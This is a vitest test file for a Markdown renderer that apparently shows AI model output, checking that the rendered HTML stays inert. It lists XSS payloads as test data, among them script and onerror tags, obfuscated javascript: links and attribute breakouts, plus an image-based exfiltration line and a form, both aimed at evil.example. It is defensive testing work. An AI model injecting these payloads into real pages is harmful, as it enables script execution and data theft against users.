import { describe, expect, it } from "vitest";
import { renderMarkdown, safeHref } from "./markdown";

// Renders into a real DOM (happy-dom) and reports what could run or load.
function dangers(html: string): string[] {
  const root = document.createElement("div");
  root.innerHTML = html;
  const found: string[] = [];
  for (const el of root.querySelectorAll("*")) {
    const tag = el.tagName.toLowerCase();
    if (["script", "img", "iframe", "object", "embed", "style", "svg", "math", "form", "link", "meta", "video", "audio", "source"].includes(tag)) {
      found.push(`<${tag}>`);
    }
    for (const a of el.getAttributeNames()) {
      if (a.startsWith("on") || a === "style" || a === "srcset" || a === "src" || a === "formaction") found.push(`${tag}[${a}]`);
    }
    const href = el.getAttribute("href");
    if (href !== null && !/^(https?:|mailto:)/i.test(href.trim())) found.push(`href=${href}`);
  }
  return found;
}

const attacks: Array<[string, string]> = [
  ["img onerror", "<img src=x onerror=alert(1)>"],
  ["inline html in a paragraph", "Hello <img src=x onerror=alert(1)> world"],
  ["script block", "<script>alert(1)</script>"],
  ["svg onload", "<svg onload=alert(1)><circle/></svg>"],
  ["iframe", '<iframe src="javascript:alert(1)"></iframe>'],
  ["javascript link", "[click me](javascript:alert(1))"],
  ["javascript link with entities", "[x](javascript&#58;alert(1))"],
  ["javascript link with a tab", "[x](java\tscript:alert(1))"],
  ["upper case scheme", "[x](JAVASCRIPT:alert(1))"],
  ["data link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
  ["vbscript link", "[x](vbscript:msgbox(1))"],
  ["markdown image (exfiltration)", "![secret](https://evil.example/leak?q=memory)"],
  ["autolink to javascript", "<javascript:alert(1)>"],
  ["reference link", "[x][r]\n\n[r]: javascript:alert(1)"],
  ["html link", '<a href="javascript:alert(1)">x</a>'],
  ["style tag", "<style>body{display:none}</style>"],
  ["attribute breakout in a link title", '[x](https://a.example "t\\" onmouseover=\\"alert(1)")'],
  ["code block language breakout", '```"><img src=x onerror=alert(1)>\ncode\n```'],
  ["form", '<form action="https://evil.example"><input type=submit></form>'],
];

describe("renderMarkdown renders model output inert", () => {
  for (const [name, src] of attacks) {
    it(name, () => {
      const html = renderMarkdown(src);
      expect(dangers(html), html).toEqual([]);
    });
  }

  it("shows raw HTML as text, so the person sees what the model wrote", () => {
    const root = document.createElement("div");
    root.innerHTML = renderMarkdown("<img src=x onerror=alert(1)>");
    expect(root.textContent).toContain("<img src=x onerror=alert(1)>");
  });

  it("keeps safe links, opening outside the app", () => {
    const root = document.createElement("div");
    root.innerHTML = renderMarkdown("[docs](https://example.com/a?b=1)");
    const a = root.querySelector("a")!;
    expect(a.getAttribute("href")).toBe("https://example.com/a?b=1");
    expect(a.getAttribute("target")).toBe("_blank");
    expect(a.getAttribute("rel")).toContain("noopener");
  });

  it("highlights code and keeps its text exact", () => {
    const src = "```go\nfunc main() { fmt.Println(\"<hi>\") }\n```";
    const root = document.createElement("div");
    root.innerHTML = renderMarkdown(src);
    const code = root.querySelector("pre code")!;
    expect(code.textContent).toBe('func main() { fmt.Println("<hi>") }');
    expect(code.querySelector(".hljs-keyword")?.textContent).toBe("func");
    expect(root.querySelector(".code-lang")?.textContent).toBe("go");
  });

  it("renders the usual Markdown: lists, tables, emphasis", () => {
    const html = renderMarkdown("# T\n\n- **a**\n- _b_\n\n| x | y |\n|---|---|\n| 1 | 2 |\n");
    expect(html).toContain("<h1>");
    expect(html).toContain("<strong>a</strong>");
    expect(html).toContain("<td>1</td>");
  });
});

describe("safeHref", () => {
  it("keeps only http, https and mailto", () => {
    expect(safeHref("https://x.example")).toBe("https://x.example");
    expect(safeHref("mailto:a@b.example")).toBe("mailto:a@b.example");
    expect(safeHref(" javascript:alert(1)")).toBeUndefined();
    expect(safeHref("/api/v1/lock")).toBeUndefined();
    expect(safeHref("data:text/html,x")).toBeUndefined();
  });
});
